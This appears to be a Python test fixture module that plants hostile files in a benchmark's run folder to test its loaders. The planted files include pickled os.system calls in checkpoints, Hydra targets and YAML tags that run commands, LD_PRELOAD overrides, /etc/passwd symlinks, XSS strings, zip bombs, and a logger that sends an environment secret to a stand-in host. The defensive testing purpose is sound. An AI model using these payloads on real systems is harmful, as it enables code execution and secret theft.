"""Copies of a finished run that a stranger has changed to attack who opens them: what is planted, by name.

Each function changes the folder `run`. What stands in a file is as a stranger would write it who knows this program:
hashes of the configuration are made to fit.
"""

import hashlib
import json
import os
import pickle
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import torch
import yaml

from benchmark.runs.table_digest import digest
from tests.pickled_call import PickledCall

SECRET = "PLANTED_SECRET"  # the name of an environment variable
ESCAPES = "x\x1b[2J\x1b]0;owned\x07\r\n\u202egnp\u2066\x9b1m"

Plant = Callable[[Path], None]
PLANTS: dict[str, Plant] = {}


def _plant(name: str) -> Callable[[Plant], Plant]:
    def add(function: Plant) -> Plant:
        PLANTS[name] = function
        return function

    return add


def edit_config(run: Path, change: Callable[[dict[str, Any]], None], text: Callable[[str], str] = str) -> None:
    config = yaml.safe_load((run / "config.yaml").read_text())
    change(config)
    _write_config(run, text(yaml.safe_dump(config, sort_keys=False)))


def _write_config(run: Path, text: str) -> None:
    (run / "config.yaml").write_text(text)
    edit_environment(run, config_sha256=hashlib.sha256(text.encode()).hexdigest())


def edit_environment(run: Path, **entries: Any) -> None:
    path = run / "environment.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | entries))


def _set(place: str, value: Any) -> Plant:
    """Sets a dotted key of config.yaml."""

    def change(config: dict[str, Any]) -> None:
        *parents, last = place.split(".")
        node = config
        for parent in parents:
            node = node.setdefault(parent, {})
        node[last] = value

    return lambda run: edit_config(run, change)


def _override(*texts: str) -> Plant:
    """Adds to the recorded command line."""

    def change(run: Path) -> None:
        saved = json.loads((run / "environment.json").read_text())["overrides"]
        edit_environment(run, overrides=[*saved, *texts])

    return change


def edit_table(run: Path, name: str, change: Callable[[pa.Table], pa.Table]) -> None:
    """Change a table, with a digest that fits."""
    table = change(pq.read_table(run / f"{name}.parquet").replace_schema_metadata(None))
    pq.write_table(table.replace_schema_metadata({b"benchmark.sha256": digest(table)}), run / f"{name}.parquet")


def _column(name: str, column: str, value: Any) -> Plant:
    def change(table: pa.Table) -> pa.Table:
        kind = table.schema.field(column).type
        return table.set_column(table.column_names.index(column), column, pa.array([value] * len(table), kind))

    return lambda run: edit_table(run, name, change)


def _file(name: str, content: bytes | str) -> Plant:
    def change(run: Path) -> None:
        path = run / name
        path.unlink(missing_ok=True)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())

    return change


def _sparse(name: str, start: bytes, size: int) -> Plant:
    def change(run: Path) -> None:
        _file(name, start)(run)
        with (run / name).open("r+b") as file:
            file.truncate(size)

    return change


def _link(name: str, target: str) -> Plant:
    def change(run: Path) -> None:
        path = run / name
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        path.unlink(missing_ok=True)
        path.symlink_to(target)

    return change


def _pipe(name: str) -> Plant:
    def change(run: Path) -> None:
        (run / name).unlink(missing_ok=True)
        os.mkfifo(run / name)

    return change


def _torch(name: str, content: Any, **options: Any) -> Plant:
    def change(run: Path) -> None:
        (run / name).unlink(missing_ok=True)
        torch.save(content, run / name, **options)

    return change


def _bomb(name: str) -> Plant:
    def change(run: Path) -> None:
        (run / name).unlink(missing_ok=True)
        with zipfile.ZipFile(run / name, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("archive/data.pkl", pickle.dumps({}, 2))
            archive.writestr("archive/data/0", bytes(2 * 10**8))

    return change


CALL = PickledCall(os.system, "touch owned")
_OC = f"${{oc.env:{SECRET}}}"
_MODULE = "import pathlib\npathlib.Path('owned').touch()\n"

PLANTS |= {
    # the configuration
    "config: a target that runs a program": _set("data._target_", "os.system"),
    "config: a target that evaluates": _set("judge", {"_target_": "builtins.exec", "_args_": ["open('owned','w')"]}),
    "config: a nested target": _set("attacks.pgd.rule.inner", {"_target_": "subprocess.Popen", "args": "touch owned"}),
    "config: a target of a library": _set("defences.jpeg._target_", "torch.hub.load"),
    "config: a module of the folder": lambda run: (
        _file("evil.py", _MODULE)(run),
        _set("target._target_", "evil.Target")(run),
    ),
    "config: a module of the package": _set("target._target_", "benchmark.targets.mask_file.Image.open"),
    "config: a key that Hydra obeys": _set("target._partial_", True),
    "config: arguments that Hydra obeys": _set("attacks.pgd.rule._args_", [1]),
    "config: a section of Hydra": _set("hydra", {"searchpath": ["file:///tmp"], "job": {"env_set": {"A": "b"}}}),
    "config: a variable": _set("run.name", _OC),
    "config: a variable in the data": _set("data.root", f"{_OC}/x"),
    "config: a section that is decoded": _set("judge", "${oc.create:'{_target_: os.system}'}"),
    "config: a logger of another host": _set(
        "loggers.evil", {"_target_": "pytorch_lightning.loggers.MLFlowLogger", "tracking_uri": "http://127.0.0.1:9"}
    ),
    "config: a folder outside": _set("trainer.default_root_dir", "/tmp/owned"),
    "config: a run's folder outside": _set("run.dir", "../../owned"),
    "config: a checkpoint outside": _set("victim.ckpt", "/etc/passwd"),
    "config: a factory": _set("victim.factory", "evil:make"),
    "config: a look-alike": _set("v\u0456ctim", {"factory": "evil:make"}),
    "config: very many images": _set(
        "data", {"_target_": "benchmark.data.synthetic.Synthetic", "n_test": 10**9, "size": 64}
    ),
    "config: very large images": _set("data.size", 10**6),
    "config: very many processes": _set("data.num_workers", 10**6),
    "config: very many slots": _set("engine.slots", 10**9),
    "config: numbers of another kind": _set("engine", {"slots": "4", "precision": [64]}),
    "config: a list for a section": _set("attacks", [1, 2]),
    "config: aliases": lambda run: _write_config(
        run, "a: &a [x,x]\n" + "".join(f"{b}: &{b} [*{a},*{a}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    ),
    "config: deep": lambda run: _write_config(run, "data: " + "{a: " * 5000 + "1" + "}" * 5000),
    "config: long": lambda run: _write_config(run, "data: [" + "1," * 10**6 + "1]"),
    "config: a tag": lambda run: _write_config(run, "seed: !!python/object/apply:os.system ['touch owned']"),
    "config: a long number": lambda run: _write_config(run, f"seed: {'9' * 5000}"),
    "config: not text": _file("config.yaml", b"\xff\xfe\x00"),
    "config: a terminal's words": _set("run.name", ESCAPES),
    "config: a pipe": _pipe("config.yaml"),
    "config: a link": _link("config.yaml", "/etc/passwd"),
    "config: a device": _link("config.yaml", "/dev/zero"),
    "config: without end": _sparse("config.yaml", b"a: ", 10**11),
    # the environment
    "environment: a search path": _override("hydra.searchpath=[file:///tmp]"),
    "environment: variables to set": _override("hydra.job.env_set={LD_PRELOAD:/tmp/x.so}"),
    "environment: a folder for Hydra": _override("hydra.run.dir=/tmp/owned"),
    "environment: a launcher": _override("hydra/launcher=slurm"),
    "environment: a configuration of logs": _override("hydra.job_logging.handlers.file.filename=/tmp/owned"),
    "environment: a group of elsewhere": _override("+attack@attacks.x=/tmp/x"),
    "environment: a target": _override("judge._target_=os.system"),
    "environment: a target in braces": _override("judge={_target_:os.system,_args_:['touch owned']}"),
    "environment: a variable": _override(f"run.name='{_OC}'"),
    "environment: a variable within": _override("run.name=${oc.decode:'${oc.env:" + SECRET + "}'}"),
    "environment: a logger": _override("logger=wandb", "loggers.wandb.entity=stranger"),
    "environment: many processes": _override("trainer=ddp_cpu", "++trainer.devices=10000"),
    "environment: a folder of the trainer": _override("+trainer.default_root_dir=/tmp/owned"),
    "environment: a sweep": _override("seed=1,2,3"),
    "environment: a deletion": _override("~judge", "~data"),
    "environment: a terminal's words": lambda run: edit_environment(
        run, platform=ESCAPES, processor=ESCAPES, packages={"torch": ESCAPES, "numpy": ESCAPES}, gpus=[ESCAPES]
    ),
    "environment: overrides of a terminal": _override(f"run.name='{ESCAPES}'"),
    "environment: an id that is a path": lambda run: edit_environment(run, run_id="../../owned"),
    "environment: entries of another kind": lambda run: edit_environment(run, shares=[{"seconds": "x"}], packages=[1]),
    "environment: deep": _file("environment.json", "[" * 10**5),
    "environment: a long number": lambda run: _file("environment.json", '{"seed": 1' + "0" * 10**6 + "}")(run),
    "environment: a pipe": _pipe("environment.json"),
    "environment: a link": _link("environment.json", "/etc/passwd"),
    "environment: without end": _sparse("environment.json", b"{", 10**11),
    # splits, summary, metrics
    "splits: very many ids": lambda run: _file("splits.json", json.dumps({"test": ["a"] * 10**6 * 15}))(run),
    "splits: surrogates": _file(
        "splits.json", '{"train": ["\\ud800"], "val": ["\\u0000"], "test": ["../../x\\u001b[2J"]}'
    ),
    "splits: other kinds": _file("splits.json", '{"test": {"a": 1}}'),
    "summary: deep": _file("summary.json", '{"a":' * 10**5),
    "summary: not numbers": _file(
        "summary.json", '{"attacks": [{"attack": "pgd", "l2": NaN, "success8_rate": 1e999}]}'
    ),
    "summary: names that are paths": _file("summary.json", '{"attacks": [{"attack": "../../../owned"}]}'),
    "metrics: without end": _sparse("metrics.csv", b"step,", 10**10),
    "metrics: a terminal's words": lambda run: _file("metrics.csv", f"step,epoch,val/iou{ESCAPES}\n1,1,1\n")(run),
    "metrics: a pipe": _pipe("metrics.csv"),
    # rows and traces
    "rows: ids that are paths": _column("records", "id", "../../../owned"),
    "rows: attacks that are paths": _column("records", "attack", "../../../owned"),
    "rows: a terminal's words": lambda run: [
        _column("records", name, ESCAPES)(run) for name in ("id", "victim", "data", "judge", "run")
    ],
    "rows: markup": lambda run: [
        _column("records", name, "</script><script>alert(1)</script><img src=//x onerror=alert(1)>")(run)
        for name in ("id", "victim", "run", "group")
    ],
    "rows: nothing": lambda run: edit_table(
        run,
        "records",
        lambda table: pa.table(
            [
                table[n] if n in ("id", "attack") else pa.nulls(len(table), table.schema.field(n).type)
                for n in table.column_names
            ],
            table.column_names,
        ),
    ),
    "rows: very large sizes": lambda run: [
        _column("records", name, 2**62)(run) for name in ("height", "width", "classes")
    ],
    "rows: negative counts": lambda run: [
        _column("records", n, -1)(run) for n in ("passes", "steps", "classes", "valid_pixels")
    ],
    "rows: no numbers": lambda run: [
        _column("records", n, float("nan"))(run) for n in ("l2", "seconds", "adv8_iou_target")
    ],
    "rows: infinite": lambda run: [
        _column("records", n, float("inf"))(run) for n in ("l2", "seconds", "adv8_iou_target")
    ],
    "rows: very long texts": _column("records", "victim", "x" * 10**6),
    "rows: very many": lambda run: pq.write_table(
        pa.table({"id": pa.nulls(10**7, pa.string())}), run / "records.parquet", row_group_size=10**7
    ),
    "rows: nested": lambda run: pq.write_table(pa.table({"id": [[["a"]]]}), run / "records.parquet"),
    "rows: a link": _link("records.parquet", "/etc/passwd"),
    "rows: a pipe": _pipe("records.parquet"),
    "rows: without end": _sparse("records.parquet", b"PAR1", 10**12),
    "traces: columns of a terminal": lambda run: edit_table(
        run, "traces", lambda table: table.append_column(ESCAPES, pa.array([1.0] * len(table)))
    ),
    "traces: very many columns": lambda run: edit_table(
        run,
        "traces",
        lambda t: pa.table([*t.columns, *[t["l2"]] * 5000], [*t.column_names, *(f"c{i}" for i in range(5000))]),
    ),
    "traces: a pipe": _pipe("traces.parquet"),
    # checkpoints
    "checkpoint: a call": _torch("checkpoints/best.ckpt", CALL),
    "checkpoint: a call among weights": _torch(
        "checkpoints/best.ckpt", {"state_dict": {"a": CALL}, "hyper_parameters": {"architecture": "unet"}}
    ),
    "checkpoint: a call of before archives": _torch(
        "checkpoints/best.ckpt", CALL, _use_new_zipfile_serialization=False
    ),
    "checkpoint: a pickle": _file("checkpoints/best.ckpt", pickle.dumps(CALL, 5)),
    "checkpoint: inflates": _bomb("checkpoints/best.ckpt"),
    "checkpoint: without end": _sparse("checkpoints/best.ckpt", b"PK\3\4", 10**12),
    "checkpoint: a pipe": _pipe("checkpoints/best.ckpt"),
    "checkpoint: a link": _link("checkpoints/best.ckpt", "/etc/passwd"),
    "checkpoint: a network of a hub": _torch(
        "checkpoints/best.ckpt",
        {"state_dict": {}, "hyper_parameters": {"architecture": "unet", "encoder": "tu-hf-hub:a/b"}},
    ),
    "last checkpoint: a call": _torch("checkpoints/last.ckpt", CALL),
    # pictures
    "picture: a program": lambda run: [
        _file(str(path.relative_to(run)), b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(owned) (w) file\n")(run)
        for path in (run / "adversarial").rglob("*.png")
    ],
    "picture: links": lambda run: [
        _link(str(path.relative_to(run)), "/etc/passwd")(run) for path in (run / "pictures").rglob("*.png")
    ],
    "picture: a folder that is a link": lambda run: (
        (run.parent / "theirs").mkdir(),
        _link("pictures", "../theirs")(run),
    ),
    "lock: a link": _link("run.lock", "/etc/passwd"),
    "lock: a pipe": _pipe("run.lock"),
    "traces: a folder that is a link": lambda run: ((run.parent / "theirs").mkdir(), _link("traces", "../theirs")(run)),
    "checkpoints: a link": lambda run: ((run.parent / "theirs").mkdir(), _link("checkpoints", "../theirs")(run)),
    "adversarial: a link": lambda run: ((run.parent / "theirs").mkdir(), _link("adversarial", "../theirs")(run)),
    "report: a link": _link("report.html", "../theirs.html"),
    "metrics: a link": _link("metrics.csv", "../theirs.csv"),
    # what other commands leave
    "transfer: rows of a stranger": lambda run: pq.write_table(
        pa.table({"attack": [ESCAPES], "id": [ESCAPES]}), run / "transfer.parquet"
    ),
    "wandb: a file of a stranger": lambda run: _file(
        "wandb/settings", f"[default]\nbase_url = http://127.0.0.1:9/{_OC}\n"
    )(run),
    "modules beside the run": lambda run: [
        _file(f"{n}.py", _MODULE)(run) for n in ("torch", "yaml", "sitecustomize", "evil")
    ],
}


def _safetensors(header: bytes, size: int | None = None) -> bytes:
    return (len(header) if size is None else size).to_bytes(8, "little") + header


PLANTS |= {
    # files that are handed over beside a run, which `victims import`, `convert` and `report` read
    "hub: a header without end": _file("hub/model.safetensors", _safetensors(b"{}", 2**62)),
    "hub: a deep header": _file("hub/model.safetensors", _safetensors(b'{"a":' * 10**5)),
    "hub: a description that is deep": lambda run: _file(
        "hub/model.safetensors",
        _safetensors(json.dumps({"__metadata__": {"segmentation_attack_benchmark": "[" * 10**5}}).encode()),
    )(run),
    "hub: a network of a terminal": lambda run: _file(
        "hub/model.safetensors",
        _safetensors(
            json.dumps({
                "__metadata__": {
                    "segmentation_attack_benchmark": json.dumps(
                        {"format": 1, "hyper_parameters": {"architecture": ESCAPES, "encoder": "tu-hf-hub:a/b"}}
                    )
                }
            }).encode()
        ),
    )(run),
    "hub: a pickle": _file("hub/model.safetensors", pickle.dumps(CALL)),
    "hub: a pipe": lambda run: ((run / "hub").mkdir(), _pipe("hub/model.safetensors")(run)),
    "released: a call": _torch("released.pt", CALL),
    "released: a call of before archives": _torch("released.pt", CALL, _use_new_zipfile_serialization=False),
    "released: inflates": _bomb("released.pt"),
    "released: a pickle with many places": _file("released.pt", b"\x80\x02}r\xff\xff\xff\x7f."),
    "card: deep": _file("card.json", "[" * 10**5),
    "card: a terminal's words": lambda run: _file(
        "card.json", json.dumps({"kind": "segmentation-attack-benchmark/card", "version": ESCAPES})
    )(run),
    "card: a pipe": _pipe("card.json"),
}  # fmt: skip
